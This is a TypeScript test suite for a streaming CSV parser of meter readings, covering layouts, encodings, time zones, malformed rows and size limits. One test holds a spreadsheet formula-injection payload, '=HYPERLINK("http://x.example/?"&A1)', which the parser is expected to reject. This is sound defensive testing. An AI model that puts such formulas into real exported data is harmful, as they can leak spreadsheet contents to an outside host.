import { Readable } from 'node:stream';
import fc from 'fast-check';
import { csvFormat, parseFormatOptions, type ParsedRow } from '../../../src/formats';
import { bytes, collect, fatalOf, readingsOf, rejectedOf } from './collect';

const ZURICH = { timeZone: 'Europe/Zurich' };
const HEADER = 'meter_number,register,timestamp,value\n';

async function parse(
  input: Readable | string | Buffer,
  options: Record<string, unknown> = {},
  timeZone = 'Europe/Zurich',
) {
  const stream = input instanceof Readable ? input : bytes(input);
  return collect(csvFormat.parse(stream, parseFormatOptions(csvFormat, options), { timeZone }));
}

/** Compact view of outcomes for exact comparisons. */
function summary(rows: ParsedRow[]) {
  return rows.map((row) => {
    if (row.kind === 'reading') {
      const r = row.reading;
      return `${row.line}: ${r.meterNumber} ${r.register} ${r.readingAt.toISOString()} ${r.value}${r.unit ? ` ${r.unit}` : ''}${r.quality ? ` q=${r.quality}` : ''}`;
    }
    if (row.kind === 'rejected') return `${row.line}: REJECTED ${row.error}`;
    return `FATAL${row.line ? ` (line ${row.line})` : ''}: ${row.error}`;
  });
}

describe('csv format: the default layout', () => {
  it('reads meter_number, register, timestamp, value rows into exact UTC readings', async () => {
    const rows = await parse(
      HEADER +
        'A-100,1.8.0,2024-01-15T08:30:00,12345.678\n' +
        'A-100,1.8.0,2024-07-15T08:30:00+02:00,0.1\n' +
        'B-7,2.8.0,2024-07-15,006342.80\n',
    );
    expect(rows).toEqual([
      {
        kind: 'reading',
        line: 2,
        reading: {
          meterNumber: 'A-100',
          register: '1.8.0',
          readingAt: new Date('2024-01-15T07:30:00Z'),
          value: '12345.678',
          readingKind: 'cumulative',
        },
      },
      {
        kind: 'reading',
        line: 3,
        reading: {
          meterNumber: 'A-100',
          register: '1.8.0',
          readingAt: new Date('2024-07-15T06:30:00Z'),
          value: '0.1',
          readingKind: 'cumulative',
        },
      },
      {
        kind: 'reading',
        line: 4,
        reading: {
          meterNumber: 'B-7',
          register: '2.8.0',
          readingAt: new Date('2024-07-14T22:00:00Z'),
          value: '6342.80',
          readingKind: 'cumulative',
        },
      },
    ]);
    expect(typeof readingsOf(rows)[0].reading.value).toBe('string');
  });

  it('picks up unit and quality columns by name and ignores extra columns', async () => {
    const rows = await parse(
      'Comment,Meter Number,Register,Timestamp,Value,Unit,Quality,Extra\n' +
        'hello,W-1,1,2024-01-15T08:30Z,5.5,m³,E,ignored\n' +
        'hello,W-2,1,2024-01-15T08:30Z,6,,,,,\n' + // trailing empty fields beyond the header are harmless
        'hello,W-3,1,2024-01-15T08:30Z,7\n', // short rows may drop the optional unit and quality
    );
    expect(summary(rows)).toEqual([
      '2: W-1 1 2024-01-15T08:30:00.000Z 5.5 m³ q=E',
      '3: W-2 1 2024-01-15T08:30:00.000Z 6',
      '4: W-3 1 2024-01-15T08:30:00.000Z 7',
    ]);
  });

  it('refuses a unit or quality longer than its stored column (16 and 8 characters)', async () => {
    const rows = await parse(
      'meter_number,register,timestamp,value,unit,quality\n' +
        `W-1,1,2024-01-15T08:30Z,1,${'k'.repeat(16)},${'q'.repeat(8)}\n` +
        `W-1,1,2024-01-15T08:45Z,2,${'k'.repeat(17)},E\n` +
        `W-1,1,2024-01-15T09:00Z,3,m³,${'q'.repeat(9)}\n`,
    );
    expect(summary(rows)).toEqual([
      `2: W-1 1 2024-01-15T08:30:00.000Z 1 ${'k'.repeat(16)} q=${'q'.repeat(8)}`,
      '3: REJECTED The unit is longer than 16 characters',
      '4: REJECTED The quality is longer than 8 characters',
    ]);
  });

  it('delivers a header-only file as no rows, without an error', async () => {
    expect(await parse(HEADER)).toEqual([]);
    expect(await parse('meter_number,register,timestamp,value')).toEqual([]);
    expect(await parse('meter_number,register,timestamp,value\r\n\r\n,,,\r\n')).toEqual([]);
  });

  it('delivers duplicate rows twice: de-duplication is the pipeline’s job', async () => {
    const row = 'M1,1.8.0,2024-01-15T08:30:00Z,10\n';
    const rows = await parse(HEADER + row + row);
    expect(summary(rows)).toEqual([
      '2: M1 1.8.0 2024-01-15T08:30:00.000Z 10',
      '3: M1 1.8.0 2024-01-15T08:30:00.000Z 10',
    ]);
  });

  it('reads interval data and allows negative intervals only when asked', async () => {
    const file = HEADER + 'M1,1.8.0,2024-01-15T08:15:00Z,-0.25\n';
    const allowed = await parse(file, { readingKind: 'interval', allowNegative: true });
    expect(readingsOf(allowed)[0].reading).toMatchObject({ value: '-0.25', readingKind: 'interval' });
    const refused = await parse(file, { readingKind: 'interval' });
    expect(summary(refused)).toEqual([
      '2: REJECTED Negative value -0.25: negative interval values are not allowed for this channel (allow them in its options if the meter also exports)',
    ]);
  });
});

describe('csv format: layouts set by options', () => {
  it('maps columns by position without a header, with a fixed register', async () => {
    const rows = await parse('x;12-jun-2021 14:31;ZH-1;99,5\nx;1-JAN-2022 00:00;ZH-2;1.234,5\n', {
      hasHeader: false,
      meterNumberColumn: 3,
      timestampColumn: 2,
      valueColumn: 4,
      fixedRegister: '1.8.0',
      timestampFormats: 'd-MMM-yyyy HH:mm',
      decimalSeparator: ',',
      thousandsSeparator: '.',
    });
    expect(summary(rows)).toEqual([
      '1: ZH-1 1.8.0 2021-06-12T12:31:00.000Z 99.5',
      '2: ZH-2 1.8.0 2021-12-31T23:00:00.000Z 1234.5',
    ]);
  });

  it('joins separate date and time columns', async () => {
    const rows = await parse('Zähler;Register;Datum;Zeit;Stand\nZ1;1.8.0;31.12.2024;23:45;1,5\n', {
      meterNumberColumn: 'Zähler',
      registerColumn: 'Register',
      dateColumn: 'Datum',
      timeColumn: 'Zeit',
      valueColumn: 'Stand',
      timestampFormats: 'dd.MM.yyyy HH:mm',
      decimalSeparator: ',',
    });
    expect(summary(rows)).toEqual(['2: Z1 1.8.0 2024-12-31T22:45:00.000Z 1.5']);
  });

  it('skips preamble lines and still reports true line numbers', async () => {
    const rows = await parse(
      'Export of 2024-01-15\n"Site: ""North"", building A\n' + HEADER + 'M1,1,2024-01-15,x\n',
      {
        skipLines: 2,
      },
    );
    expect(summary(rows)).toEqual(['4: REJECTED "x" is not a number']);
  });

  it('sniffs semicolon and tab delimiters, and honours a set one', async () => {
    const semicolon = await parse('meter_number;register;timestamp;value\nM1;1;2024-01-15T08:30Z;1,5\n', {
      decimalSeparator: ',',
    });
    expect(summary(semicolon)).toEqual(['2: M1 1 2024-01-15T08:30:00.000Z 1.5']);
    const tab = await parse('meter_number\tregister\ttimestamp\tvalue\nM1\t1\t2024-01-15T08:30Z\t2\n');
    expect(summary(tab)).toEqual(['2: M1 1 2024-01-15T08:30:00.000Z 2']);
    const pipe = await parse('meter_number|register|timestamp|value\nM1|1|2024-01-15T08:30Z|3\n', {
      delimiter: '|',
    });
    expect(summary(pipe)).toEqual(['2: M1 1 2024-01-15T08:30:00.000Z 3']);
  });
});

describe('csv format: text encodings and line endings', () => {
  it('handles a UTF-8 BOM and CRLF line endings', async () => {
    const file = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('meter_number,register,timestamp,value\r\nM1,1,2024-01-15T08:30Z,7\r\n'),
    ]);
    expect(summary(await parse(file))).toEqual(['2: M1 1 2024-01-15T08:30:00.000Z 7']);
  });

  it('reads a Windows-1252 (Latin-1) file', async () => {
    const file = Buffer.from(
      'meter_number;register;timestamp;value;unit\nZürich-1;1;2024-01-15T08:30Z;7;m³\n',
      'latin1',
    );
    expect(summary(await parse(file))).toEqual(['2: Zürich-1 1 2024-01-15T08:30:00.000Z 7 m³']);
  });

  it('reads an Excel "Unicode text" export (UTF-16 with BOM, tabs)', async () => {
    const text = 'meter_number\tregister\ttimestamp\tvalue\r\nGenève-3\t1\t2024-01-15T08:30Z\t8\r\n';
    const file = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(summary(await parse(file))).toEqual(['2: Genève-3 1 2024-01-15T08:30:00.000Z 8']);
  });

  it('rejects a row with bytes that are not UTF-8 when the file started as UTF-8', async () => {
    // 70 KB of valid UTF-8 first, so the encoding is settled before the Latin-1 byte shows up.
    const good = 'M1,1,2024-01-15T08:30Z,1\n'.repeat(3000);
    const rows = await parse(
      bytes(HEADER + good, Buffer.from('Z\xfcrich,1,2024-01-15T08:30Z,1\n', 'latin1')),
    );
    expect(readingsOf(rows)).toHaveLength(3000);
    expect(summary(rejectedOf(rows))).toEqual([
      "3002: REJECTED The meter number column contains bytes that are not valid UTF-8: the file is probably in another encoding — set the channel's text encoding (e.g. Windows-1252)",
    ]);
  });

  it('reads quoted fields with delimiters, quotes and newlines, and keeps line numbers right after them', async () => {
    const rows = await parse(
      HEADER +
        '"M,1","1.8.0","2024-01-15T08:30Z","5"\r\n' +
        '"M ""2""",1,2024-01-15T08:30Z,6\r\n' +
        '"M\r\n3",1,2024-01-15T08:30Z,7\r\n' +
        'M4,1,2024-01-15T08:30Z,oops\r\n',
    );
    expect(summary(rows)).toEqual([
      '2: M,1 1.8.0 2024-01-15T08:30:00.000Z 5',
      '3: M "2" 1 2024-01-15T08:30:00.000Z 6',
      // A line break inside a quoted meter number is read as one field, then refused: it is not an id.
      '4: REJECTED The meter number contains a control or invisible character (U+000A); only printable characters are allowed',
      '6: REJECTED "oops" is not a number',
    ]);
  });

  it('refuses the identifiers the device API refuses: invisible characters in a meter number, a formula as register', async () => {
    const rows = await parse(
      HEADER +
        'A\u200B100,1.8.0,2024-01-15T08:30Z,1\n' +
        'A-100,=HYPERLINK("http://x.example/?"&A1),2024-01-15T08:30Z,2\n' +
        'A-100,1.8.0 ,2024-01-15T08:30Z,3\n' +
        `${'M'.repeat(65)},1,2024-01-15T08:30Z,4\n`,
    );
    expect(summary(rows)).toEqual([
      '2: REJECTED The meter number contains a control or invisible character (U+200B); only printable characters are allowed',
      '3: REJECTED The register must be 1–32 letters, digits or . _ : - (got "=HYPERLINK(\\"http://x.example/?\\"&A1)")',
      '4: A-100 1.8.0 2024-01-15T08:30:00.000Z 3',
      '5: REJECTED The meter number is longer than 64 characters (65)',
    ]);
  });

  it('gives the same outcomes however the bytes are chunked (property)', async () => {
    const file = Buffer.from(
      '\ufeffmeter_number;register;timestamp;value\r\n"Zä;1";1;2024-01-15T08:30;1,5\r\n\r\nM2;1;2024-03-31 02:30;2\r\n"M\r\n3";1;2024-01-15;x\r\nM4;1;2024-01-15;-1\r\n',
    );
    const options = { decimalSeparator: ',' };
    const whole = summary(await parse(file, options));
    expect(whole).toHaveLength(4);
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(fc.integer({ min: 1, max: file.length - 1 }), { maxLength: 12 }),
        async (cuts) => {
          const points = [0, ...[...cuts].sort((a, b) => a - b), file.length];
          const pieces = points.slice(1).map((end, i) => file.subarray(points[i], end));
          expect(summary(await parse(bytes(...pieces), options))).toEqual(whole);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('csv format: bad rows are rejected with their line and a reason', () => {
  it('rejects non-numeric, negative, empty and impossible values, keeping the good rows', async () => {
    const rows = await parse(
      HEADER +
        'M1,1,2024-01-15T08:30Z,abc\n' +
        'M1,1,2024-01-15T08:30Z,-5\n' +
        'M1,1,2024-01-15T08:30Z,\n' +
        'M1,1,2023-02-29T08:30Z,1\n' +
        ',1,2024-01-15T08:30Z,1\n' +
        'M1,,2024-01-15T08:30Z,1\n' +
        'M1,1,,1\n' +
        'M1,1\n' +
        'M1,1,2024-01-15T08:30Z,12,5\n' +
        'M1,1,2024-01-15T08:30Z,12 kWh\n' +
        'M1,1,2024-01-15T08:30Z,9\n',
    );
    expect(summary(rows)).toEqual([
      '2: REJECTED "abc" is not a number',
      "3: REJECTED Negative value -5: a register read (the meter's total) cannot be negative",
      '4: REJECTED The value is empty',
      '5: REJECTED "2023-02-29T08:30Z" is not a real date: February 2023 has 28 days',
      '6: REJECTED The meter number is empty',
      '7: REJECTED The register is empty',
      '8: REJECTED The timestamp is empty',
      '9: REJECTED The row has 2 columns but needs at least 4: timestamp (column 3), value (column 4) is missing',
      '10: REJECTED The row has 5 fields but the header has 4: a value probably contains an unquoted comma (,) (e.g. a decimal comma). Quote such values, or use another delimiter',
      '11: REJECTED "12 kWh" is not a number — a value must be a plain number, without a unit',
      '12: M1 1 2024-01-15T08:30:00.000Z 9',
    ]);
    expect(rejectedOf(rows)[0]).toEqual({
      kind: 'rejected',
      line: 2,
      raw: 'M1,1,2024-01-15T08:30Z,abc',
      error: '"abc" is not a number',
    });
  });

  it('rejects a time inside the DST gap, and reads an ambiguous time by the chosen policy', async () => {
    const file = HEADER + 'M1,1,2024-03-31T02:30:00,1\nM1,1,2024-10-27T02:30:00,2\n';
    expect(summary(await parse(file))).toEqual([
      '2: REJECTED "2024-03-31T02:30:00" does not exist in Europe/Zurich: the clocks skip it when daylight saving time starts (UTC+01:00 → UTC+02:00). Correct the time, or export timestamps with a UTC offset',
      '3: M1 1 2024-10-27T00:30:00.000Z 2',
    ]);
    expect(summary(await parse(file, { ambiguousTimes: 'later' }))[1]).toBe(
      '3: M1 1 2024-10-27T01:30:00.000Z 2',
    );
    expect(summary(await parse(file, { ambiguousTimes: 'reject' }))[1]).toMatch(
      /^3: REJECTED "2024-10-27T02:30:00" happens twice/,
    );
  });

  it('hints at the header option when a header-less channel gets a header', async () => {
    const rows = await parse(HEADER + 'M1,1,2024-01-15T08:30Z,1\n', {
      hasHeader: false,
      meterNumberColumn: 1,
      registerColumn: 2,
      timestampColumn: 3,
      valueColumn: 4,
    });
    expect(summary(rows)).toEqual([
      '1: REJECTED "timestamp" is not a timestamp in the expected format (ISO 8601, e.g. 2024-03-31T14:30:00) (if the first line is a header row, turn on "First line is a header row")',
      '2: M1 1 2024-01-15T08:30:00.000Z 1',
    ]);
  });

  it('cuts the quoted raw text of a rejected row to 500 characters', async () => {
    const rows = await parse(HEADER + `M1,1,2024-01-15T08:30Z,${'x'.repeat(2000)}\n`);
    const [rejected] = rejectedOf(rows);
    expect(rejected.raw).toHaveLength(500);
    expect(rejected.error.length).toBeLessThan(120);
  });

  it('rejects an unterminated quote after delivering the rows before it', async () => {
    const rows = await parse(
      HEADER + 'M1,1,2024-01-15T08:30Z,1\nM2,1,2024-01-15T08:30Z,"2\nM3,1,2024-01-15T08:30Z,3\n',
    );
    expect(summary(rows)).toEqual([
      '2: M1 1 2024-01-15T08:30:00.000Z 1',
      '3: REJECTED A quoted field starting on or after line 3 is never closed, so everything up to the end of the file (line 4) reads as one broken value. Close the quote (") and import the file again; the rows before line 3 were read.',
      '4: REJECTED Line 4 lies inside the quoted field opened on or after line 3, which is never closed, so it was not read as a row. Close the quote (") and import the file again.',
    ]);
  });

  it('hands the lines an unterminated quote swallows on in bounded batches, each with its outcome', async () => {
    const swallowed = 'x\n'.repeat(5000);
    const input = HEADER + 'M1,1,2024-01-15T08:30Z,1\nM2,1,2024-01-15T08:30Z,"2\n' + swallowed;
    const sizes: number[] = [];
    const rows: ParsedRow[] = [];
    for await (const batch of csvFormat.parse(bytes(input), parseFormatOptions(csvFormat, {}), ZURICH)) {
      sizes.push(batch.length);
      rows.push(...batch);
    }
    // Line 2 is a reading; line 3 opens the quote; lines 4 … 5,003 are inside it: 5,001 rejected.
    expect(readingsOf(rows)).toHaveLength(1);
    const rejected = rejectedOf(rows);
    expect(rejected).toHaveLength(5001);
    expect(rejected.map((r) => r.line)).toEqual(Array.from({ length: 5001 }, (_, i) => 3 + i));
    expect(Math.max(...sizes)).toBeLessThanOrEqual(2000);
    expect(sizes.every((n) => n > 0)).toBe(true);
  });

  it('counts skipped preamble lines in the position of an unterminated quote', async () => {
    const rows = await parse('Report\n' + HEADER + 'M1,1,2024-01-15T08:30Z,"1\nM2,1,2024-01-15T08:30Z,2\n', {
      skipLines: 1,
    });
    expect(summary(rows)).toEqual([
      '3: REJECTED A quoted field starting on or after line 3 is never closed, so everything up to the end of the file (line 4) reads as one broken value. Close the quote (") and import the file again; the rows before line 3 were read.',
      '4: REJECTED Line 4 lies inside the quoted field opened on or after line 3, which is never closed, so it was not read as a row. Close the quote (") and import the file again.',
    ]);
  });

  it('stops with a fatal outcome at a 10 MB line, after delivering the rows before it, without holding it in memory', async () => {
    let produced = 0;
    async function* hostile() {
      yield Buffer.from(HEADER + 'M1,1,2024-01-15T08:30Z,1\nM2,1,2024-01-15T08:30Z,');
      for (let i = 0; i < 160; i++) {
        produced++;
        yield Buffer.alloc(64 * 1024, '7'); // 10 MB of digits, no newline
      }
      yield Buffer.from('\nM3,1,2024-01-15T08:30Z,3\n');
    }
    const rows = await parse(Readable.from(hostile()));
    expect(summary(rows)).toEqual([
      '2: M1 1 2024-01-15T08:30:00.000Z 1',
      'FATAL (line 3): A row is longer than 256 KB — either the file is not a meter CSV, or a quote (") opened on this line is never closed. The rows before line 3 were read; the rest of the file was not.',
    ]);
    // Reading stopped soon after the limit instead of pulling the whole 10 MB.
    expect(produced).toBeLessThan(10);
  });

  it('refuses a file whose first line is 10 MB long', async () => {
    async function* oneLine() {
      for (let i = 0; i < 160; i++) yield Buffer.alloc(64 * 1024, 'a');
    }
    expect(summary(await parse(Readable.from(oneLine())))).toEqual([
      'FATAL (line 1): The first line is longer than 64 KB: this is not a meter CSV file (or its lines do not end with line breaks)',
    ]);
  });
});

describe('csv format: files that cannot be read at all', () => {
  it('calls an empty file empty', async () => {
    expect(await parse('')).toEqual([{ kind: 'fatal', error: 'The file is empty' }]);
    expect(await parse(Buffer.from([0xef, 0xbb, 0xbf]))).toEqual([
      { kind: 'fatal', error: 'The file is empty' },
    ]);
    expect(await parse('\r\n\r\n')).toEqual([{ kind: 'fatal', error: 'The file is empty' }]);
    expect(await parse('title\n', { skipLines: 1 })).toEqual([
      { kind: 'fatal', error: 'The file has nothing after the 1 skipped line(s)' },
    ]);
  });

  it('refuses binary garbage and spreadsheets', async () => {
    const garbage = Buffer.from(Array.from({ length: 10_000 }, (_, i) => (i * 104729 + 7) % 256));
    expect(summary(await parse(garbage))).toEqual([
      'FATAL: This is not a text file: it contains binary data (NUL or control bytes). Upload the CSV/text export itself.',
    ]);
    const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100, 1)]);
    expect(fatalOf(await parse(xlsx))[0].error).toMatch(
      /not a text file: it looks like a ZIP archive \(an \.xlsx workbook is one\)/,
    );
  });

  it('names the header found, the columns expected and the likely delimiter when columns are missing', async () => {
    const semicolons = 'meter_number;register;timestamp;value\nM1;1;2024-01-15T08:30Z;1\n';
    expect(await parse(semicolons, { delimiter: ',' })).toEqual([
      {
        kind: 'fatal',
        line: 1,
        error:
          'The header row does not have the columns this channel expects. Missing: "meter_number", "register", "timestamp", "value". ' +
          'Expected: "meter_number", "register", "timestamp", "value". Found: "meter_number;register;timestamp;value" — ' +
          'the file seems to be delimited by semicolon (;), but the channel is set to comma (,)',
      },
    ]);
    const renamed = await parse('meter,register,time,reading\nM1,1,2024-01-15T08:30Z,1\n');
    expect(fatalOf(renamed)[0].error).toBe(
      'The header row does not have the columns this channel expects. Missing: "meter_number", "timestamp", "value". ' +
        'Expected: "meter_number", "register", "timestamp", "value". Found: "meter", "register", "time", "reading"',
    );
  });

  it('refuses an unknown channel time zone', async () => {
    expect(await parse(HEADER, {}, 'Europe/Atlantis')).toEqual([
      { kind: 'fatal', error: 'The channel\'s time zone "Europe/Atlantis" is not a known IANA time zone' },
    ]);
  });

  it('reports a source that fails mid-file after the rows read so far', async () => {
    const failAfter = (first: string) => {
      let sent = false;
      return new Readable({
        read() {
          if (sent) return this.destroy(new Error('SFTP connection lost'));
          sent = true;
          this.push(Buffer.from(first));
        },
      });
    };
    // Past the 64 KB the format looks at first: the rows before the failure are delivered.
    const rows = await parse(failAfter(HEADER + 'M1,1,2024-01-15T08:30Z,1\n'.repeat(3000)));
    expect(readingsOf(rows)).toHaveLength(3000);
    expect(summary(rows.slice(-1))).toEqual([
      'FATAL (line 3002): The file could not be read to the end: SFTP connection lost',
    ]);
    // A row cut off by the failure is not delivered: its value may be cut short.
    const cut = await parse(
      failAfter(HEADER + 'M1,1,2024-01-15T08:30Z,1\n'.repeat(3000) + 'M9,1,2024-01-15T08:30Z,12'),
    );
    expect(readingsOf(cut)).toHaveLength(3000);
    expect(readingsOf(cut).some((r) => r.reading.meterNumber === 'M9')).toBe(false);
    expect(summary(cut.slice(-1))).toEqual([
      'FATAL (line 3002): The file could not be read to the end: SFTP connection lost',
    ]);
    // Within the first 64 KB: nothing was judged yet, the file could not be read.
    expect(summary(await parse(failAfter(HEADER)))).toEqual([
      'FATAL: The file could not be read: SFTP connection lost',
    ]);
  });
});

describe('csv format: streaming', () => {
  it('streams a large file row by row and stops reading when the consumer stops', async () => {
    let produced = 0;
    async function* big() {
      yield Buffer.from(HEADER);
      for (let chunk = 0; chunk < 1000; chunk++) {
        produced++;
        let text = '';
        for (let i = 0; i < 100; i++)
          text += `M${i},1.8.0,2024-01-15T08:${String(i % 60).padStart(2, '0')}Z,${chunk}.${i}\n`;
        yield Buffer.from(text);
      }
    }
    const options = parseFormatOptions(csvFormat, {});
    const source = Readable.from(big());
    let seen = 0;
    reading: for await (const rows of csvFormat.parse(source, options, ZURICH)) {
      for (const row of rows) {
        expect(row.kind).toBe('reading');
        if (++seen === 250) break reading;
      }
    }
    expect(produced).toBeLessThan(40); // of 1000 chunks
    expect(source.destroyed).toBe(true);

    produced = 0;
    const all = await collect(csvFormat.parse(Readable.from(big()), options, ZURICH));
    expect(all).toHaveLength(100_000);
    expect(all.every((r) => r.kind === 'reading')).toBe(true);
    expect(all[99_999]).toMatchObject({ line: 100_001, reading: { meterNumber: 'M99', value: '999.99' } });
  });
});
